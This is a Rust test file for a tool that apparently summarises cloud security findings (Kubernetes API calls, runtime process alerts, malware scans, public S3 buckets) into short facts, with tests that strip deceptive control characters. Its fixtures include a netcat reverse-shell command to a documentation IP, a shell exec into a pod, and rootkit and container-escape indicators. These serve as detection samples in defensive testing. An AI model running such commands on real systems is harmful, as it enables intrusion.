//! Facts of clusters, containers, processes, scans and data.

use super::account::{facts, read};
use crate::finding::Fact;

fn check(cases: &[(&str, &str, &[&str])]) {
    for (resource, service, said) in cases {
        assert_eq!(facts(&read(resource, service)), *said, "{resource} {service}");
    }
}

/// Calls of Kubernetes: the fields of the call, and the facts.
#[test]
fn calls_of_kubernetes() {
    for (call, said) in [
        ("", &[] as &[&str]),
        (
            r#""requestUri":"/api/v1/pods/a/exec","statusCode":101,"userAgent":"kubectl/v1.33",
                "parameters":"stdin=true&command=%2Fbin%2Fsh&command=-c&command=id+-u&tty=true""#,
            &["Command: /bin/sh -c id -u", "Call: HTTP 101 (succeeded), kubectl/v1.33"],
        ),
        (
            r#""requestUri":"/api/v1/pods/a/exec?container=a&command=id","parameters":"""#,
            &["Command: id"],
        ),
        (r#""parameters":"command""#, &[]),
        (r#""statusCode":"403""#, &["Call: HTTP 403 (denied)"]),
        (r#""statusCode":404"#, &["Call: HTTP 404 (failed)"]),
        (
            r#""resource":"pods","subresource":"exec","namespace":"kube-system",
                "resourceName":"coredns-1","statusCode":200"#,
            &["Call: pods/exec kube-system/coredns-1, HTTP 200 (succeeded)"],
        ),
    ] {
        let service = format!(r#""action":{{"kubernetesApiCallAction":{{{call}}}}}"#);
        assert_eq!(facts(&read("", &service)), said, "{call}");
    }
}

#[test]
fn users_and_workloads_of_kubernetes() {
    for (details, said) in [
        (
            r#""kubernetesUserDetails":{"username":"ci","groups":["a","b","c","system:masters"],
                "sessionName":["deploy"],"impersonatedUser":{"username":"admin","groups":["ops"]}}"#,
            &["User: groups system:masters, a, b +1 more, impersonates admin, with groups ops, \
               session deploy"] as &[&str],
        ),
        (r#""kubernetesUserDetails":{"username":"system:anonymous","groups":[]}"#, &[]),
        (
            r#""kubernetesWorkloadDetails":{"name":"p","hostNetwork":true,"hostPID":"true",
                "hostIPC":true,"serviceAccountName":"ci","containers":[{"name":"a"},{"name":"b"},
                {"name":"c"},{"name":"d","securityContext":{"privileged":true}}],
                "volumes":[{"name":"tmp"},{"name":"root","hostPath":{"path":"/"}}]}"#,
            &["Workload: privileged, hostPath /, host network, host PID, host IPC, \
               service account ci"],
        ),
        (
            r#""kubernetesWorkloadDetails":{"name":"p","hostNetwork":false,
                "containers":[{"name":"a","securityContext":{"privileged":false}}]}"#,
            &[],
        ),
    ] {
        let resource = format!(r#""kubernetesDetails":{{{details}}}"#);
        assert_eq!(facts(&read(&resource, "")), said, "{details}");
    }
}

#[test]
fn credentials_of_kubernetes_users() {
    let key = r#""accessKeyDetails":{"userType":"IAMUser","userName":"ci","accessKeyId":"AKIA1"}"#;
    let user = r#""kubernetesDetails":{"kubernetesUserDetails":{"username":"ci"}}"#;
    check(&[
        (&format!("{user},{key}"), "", &["Credential: IAMUser ci (access key AKIA1)"]),
        (key, "", &[]),
    ]);
}

#[test]
fn roles_of_kubernetes() {
    for (action, said) in [
        (
            r#""kubernetesRoleBindingDetails":{"kind":"ClusterRoleBinding","name":"ops",
                "roleRefKind":"ClusterRole","roleRefName":"cluster-admin"}"#,
            "Role: ClusterRoleBinding ops grants ClusterRole cluster-admin",
        ),
        (r#""kubernetesRoleDetails":{"kind":"Role","name":"reader"}"#, "Role: Role reader"),
        (
            r#""kubernetesPermissionCheckedDetails":{"verb":"create","resource":"pods",
                "namespace":"kube-system","allowed":false}"#,
            "Role: may not create pods in kube-system",
        ),
    ] {
        assert_eq!(facts(&read("", &format!(r#""action":{{{action}}}"#))), [said], "{action}");
    }
}

#[test]
fn processes() {
    let sha256 = "ab".repeat(32);
    let hash = format!("SHA-256: {sha256}");
    for (details, said) in [
        (
            format!(
                r#""process":{{"executablePath":"/tmp/x","executableSha256":"{sha256}","uuid":"u1",
                    "lineage":[{{"executablePath":"/tmp/x","uuid":"u1"}},
                        {{"executablePath":"/bin/sh","uuid":"u2"}},{{"name":"sshd"}}]}},
                    "context":{{"modifyingProcess":{{"executablePath":"/usr/bin/wget","pid":12,
                        "user":"www"}},"threatFilePath":"/tmp/x",
                        "targetProcess":{{"executablePath":"/tmp/x"}}}}"#
            ),
            &["Modified by: /usr/bin/wget (pid 12, user www)", "Parents: /bin/sh ← sshd", &hash]
                as &[&str],
        ),
        (
            r#""process":{"lineage":[{"name":"a"},{"name":"b"},{"name":"c"},{"name":"d"},
                {"name":"e"},{"name":"f"}]}"#
                .to_owned(),
            &["Parents: a ← b ← c ← d ← e ← …"],
        ),
        (
            r#""context":{"commandLineExample":"nc -e /bin/sh 198.51.100.7 4444","toolName":"nc",
                "toolCategory":"Backdoor Tool","scriptPath":"/tmp/a.sh"}"#
                .to_owned(),
            &[
                "Command: nc -e /bin/sh 198.51.100.7 4444",
                "Context: tool nc, Backdoor Tool, script /tmp/a.sh",
            ],
        ),
        (
            r#""context":{"moduleName":"rk","moduleFilePath":"/tmp/rk.ko","moduleSha256":"0a",
                "filePath":"/etc/passwd","fileOperation":"Write","threatFilePath":"/tmp/y"}"#
                .to_owned(),
            &["Context: file /etc/passwd, Write, threat file /tmp/y, module rk, \
               module file /tmp/rk.ko, module SHA-256 0a"],
        ),
        (
            r#""context":{"mountSource":"/etc","mountTarget":"/host","fileSystemType":"ext4",
                "flags":["MS_BIND","MS_REC"],"releaseAgentPath":"/x","runcBinaryPath":"/runc",
                "socketPath":"/run/docker.sock","addressFamily":"AF_INET","serviceName":"auditd"}"#
                .to_owned(),
            &["Context: service auditd, socket /run/docker.sock, runc /runc, release agent /x, \
               mount /etc, at /host, file system ext4, flags MS_BIND, MS_REC, \
               address family AF_INET"],
        ),
        (
            r#""context":{"libraryPath":"/tmp/x.so","ldPreloadValue":"/tmp/y.so",
                "shellHistoryFilePath":"/root/.bash_history","targetProcess":{"name":"sshd"},
                "memoryRegions":["stack"]},"process":{"name":"x"}"#
                .to_owned(),
            &["Context: library /tmp/x.so, LD_PRELOAD /tmp/y.so, \
               shell history /root/.bash_history, target process sshd, memory stack"],
        ),
    ] {
        let service = format!(r#""runtimeDetails":{{{details}}}"#);
        assert_eq!(facts(&read("", &service)), said, "{details}");
    }
}

#[test]
fn containers_and_their_hosts() {
    let task = r#""ecsClusterDetails":{"name":"prod","taskDetails":{"group":"service:web",
        "launchType":"EC2","volumes":[{"hostPath":{"path":"/var/run"}}],
        "containers":[{"name":"a","securityContext":{"privileged":true}}]}}"#;
    let container = r#""containerDetails":{"name":"api","image":"shop/api:41"}"#;
    let instance = r#""instanceDetails":{"instanceId":"i-1","instanceType":"t3.micro"}"#;
    check(&[
        (
            &format!(r#""resourceType":"ECSCluster",{task},{container},{instance}"#),
            "",
            &[
                "Task: privileged, hostPath /var/run, service:web, EC2",
                "Container: api (image shop/api:41)",
                "Host: EC2 instance i-1 (t3.micro)",
            ],
        ),
        (
            &format!(r#""resourceType":"Container",{container},{instance}"#),
            "",
            &["Host: EC2 instance i-1 (t3.micro)"],
        ),
        (
            &format!(r#""resourceType":"Instance",{container},{instance}"#),
            "",
            &["Container: api (image shop/api:41)"],
        ),
        (&format!(r#""resourceType":"AccessKey",{instance}"#), "", &[]),
    ]);
}

#[test]
fn scans_for_malware() {
    let volume = r#""volumeArn":"arn:aws:ec2:r:1:volume/vol-1""#;
    let object = r#""s3BucketDetails":[{"name":"b","s3ObjectDetails":[{"key":"k","hash":"0a"}]}]"#;
    check(&[
        (
            "",
            &format!(
                r#""ebsVolumeScanDetails":{{"scanType":"GUARDDUTY_INITIATED",
                    "triggerFindingId":"f0","sources":["Bitdefender"],"scanDetections":{{
                    "scannedItemCount":{{"files":2110}},"threatsDetectedItemCount":{{"files":5}},
                    "threatDetectedByName":{{"threatNames":[
                        {{"name":"A","filePaths":[{{"filePath":"/tmp/a","hash":"0a",{volume}}}]}},
                        {{"name":"B","filePaths":[{{"filePath":"/tmp/a","hash":"0a",{volume}}},
                            {{"fileName":"b"}},{{"filePath":"/c"}}]}}]}}}}}}"#
            ),
            &[
                "File: /tmp/a (hash 0a, vol-1), b +2 more",
                "Scan: 5 of 2110 files infected, agentless, started by GuardDuty, \
                 after finding f0, found by Bitdefender",
            ],
        ),
        (
            object,
            r#""malwareScanDetails":{"threats":[{"name":"A","source":"Bitdefender",
                "itemPaths":[{"nestedItemPath":"in.zip/a.exe","hash":"0b"}]},
                {"source":"Amazon","count":2,"hash":"0c"},{"source":"Bitdefender"}]}"#,
            &[
                "File: in.zip/a.exe (hash 0b) +2 more",
                "Scan: found by Amazon, Bitdefender",
                "Object: hash 0a",
            ],
        ),
        (
            object,
            r#""malwareScanDetails":{"threats":[{"itemPaths":[{"nestedItemPath":"","hash":"0a"}]}]}"#,
            &["File: hash 0a"],
        ),
        (
            "",
            r#""malwareScanDetails":{"scanType":"BACKUP_INITIATED","scanCategory":"INCREMENTAL_SCAN",
                "threats":[{"hash":"0d","count":18446744073709551615,"itemDetails":[
                    {"itemPath":"/x","resourceArn":"arn:aws:ec2:r::snapshot/snap-1"}]},
                    {"count":7}]}"#,
            &[
                "File: /x (hash 0d, snap-1) +18446744073709551614 more",
                "Scan: started by AWS Backup, incremental",
            ],
        ),
    ]);
}

#[test]
fn buckets_and_logins() {
    let access = |effective: &str| {
        format!(
            r#""s3BucketDetails":[{{"name":"b","publicAccess":{{"effectivePermission":"{effective}",
                "permissionConfiguration":{{"bucketLevelPermissions":{{
                    "bucketPolicy":{{"allowsPublicReadAccess":true}},
                    "accessControlList":{{"allowsPublicReadAccess":false,
                        "allowsPublicWriteAccess":true}}}}}}}}}}]"#
        )
    };
    check(&[
        (&access("PUBLIC"), "", &["Public by: bucket policy (read), ACL (write)"]),
        (&access("NOT_PUBLIC"), "", &[]),
        (
            r#""s3BucketDetails":[{"s3ObjectDetails":{"key":"k","hash":"0a","versionId":"3"}}]"#,
            "",
            &["Object: hash 0a, version 3"],
        ),
        (
            r#""rdsDbUserDetails":{"user":"app","authMethod":"SCRAM","ssl":"TLSv1.3"}"#,
            "",
            &["Login: method SCRAM, encryption TLSv1.3"],
        ),
        (r#""rdsDbUserDetails":{"user":"app","authMethod":"UNKNOWN"}"#, "", &[]),
    ]);
}

/// Every field that is read for a fact, and how many facts they give. `@` stands for a text, `%`
/// for parameters with a command.
const HOSTILE: [(&str, &str, usize); 4] = [
    (
        r#""kubernetesDetails":{
            "kubernetesUserDetails":{"username":@,"groups":[@,@],"sessionName":[@],
                "impersonatedUser":{"username":@,"groups":[@]}},
            "kubernetesWorkloadDetails":{"name":@,"serviceAccountName":@,
                "volumes":[{"hostPath":{"path":@}},{"hostPath":{"path":@}}]}},
          "accessKeyDetails":{"userName":@,"userType":@,"accessKeyId":@}"#,
        r#""action":{"kubernetesApiCallAction":{"parameters":%,"userAgent":@,"namespace":@,
                "resource":@,"subresource":@,"resourceName":@,"verb":@},
            "kubernetesRoleDetails":{"kind":@,"name":@},
            "kubernetesPermissionCheckedDetails":{"verb":@,"resource":@,"namespace":@},
            "kubernetesRoleBindingDetails":{"kind":@,"name":@,"roleRefKind":@,"roleRefName":@}}"#,
        6,
    ),
    (
        r#""resourceType":"EKSCluster","ecsClusterDetails":{"name":@,"taskDetails":{"group":@,
                "launchType":@,"definitionArn":@,"volumes":[{"hostPath":{"path":@}}]}},
          "containerDetails":{"name":@,"image":@},
          "instanceDetails":{"instanceId":@,"instanceType":@}"#,
        r#""runtimeDetails":{"process":{"executablePath":@,"executableSha256":@,
                "lineage":[{"executablePath":@},{"name":@}]},
            "context":{"modifyingProcess":{"executablePath":@,"user":@,"pid":@},
                "targetProcess":{"name":@},"commandLineExample":@,"toolName":@,"toolCategory":@,
                "serviceName":@,"scriptPath":@,"libraryPath":@,"ldPreloadValue":@,"filePath":@,
                "fileOperation":@,"threatFilePath":@,"shellHistoryFilePath":@,"socketPath":@,
                "runcBinaryPath":@,"releaseAgentPath":@,"moduleName":@,"moduleFilePath":@,
                "moduleSha256":@,"mountSource":@,"mountTarget":@,"fileSystemType":@,"flags":[@],
                "memoryRegions":[@],"addressFamily":@}}"#,
        8,
    ),
    (
        r#""s3BucketDetails":[{"name":@,"publicAccess":{"effectivePermission":@},
            "s3ObjectDetails":[{"key":@,"hash":@,"versionId":@}]}],
          "rdsDbUserDetails":{"authMethod":@,"ssl":@}"#,
        r#""ebsVolumeScanDetails":{"scanType":@,"triggerFindingId":@,"sources":[@],
            "scanDetections":{"threatDetectedByName":{"threatNames":[{"name":@,
                "filePaths":[{"filePath":@,"fileName":@,"hash":@,"volumeArn":@}]}]}}}"#,
        4,
    ),
    (
        "",
        r#""malwareScanDetails":{"scanType":@,"scanCategory":@,"threats":[{"name":@,"source":@,
            "hash":@,"itemDetails":[{"itemPath":@,"hash":@,"resourceArn":@}],
            "itemPaths":[{"nestedItemPath":@,"hash":@}]}]}"#,
        2,
    ),
];

#[test]
fn hostile_facts_are_clean_and_bounded() {
    let evil = "<!channel> *x* \u{202e}\u{1b}[31m\n <http://evil|x>";
    for evil in [evil.to_owned(), evil.repeat(300), ["arn:aws:s3:::", evil].concat()] {
        let text = serde_json::to_string(&evil).unwrap();
        let command = format!("command=%0a%1b%E2%80%AE{evil}");
        let command = serde_json::to_string(&command).unwrap();
        let fill = |part: &str| part.replace('%', &command).replace('@', &text);
        for (resource, service, count) in HOSTILE {
            let finding = read(&fill(resource), &fill(service));
            assert_eq!(finding.facts.len(), count, "{resource} {service}");
            for Fact { label, text } in &finding.facts {
                let text = text.as_str();
                assert!(text.chars().count() <= Fact::CHARS_MAX, "{label}: {text}");
                let deceives = |c: char| c.is_control() || c == '\u{202e}';
                assert!(!text.contains(deceives), "{label}: {text}");
            }
        }
    }
}
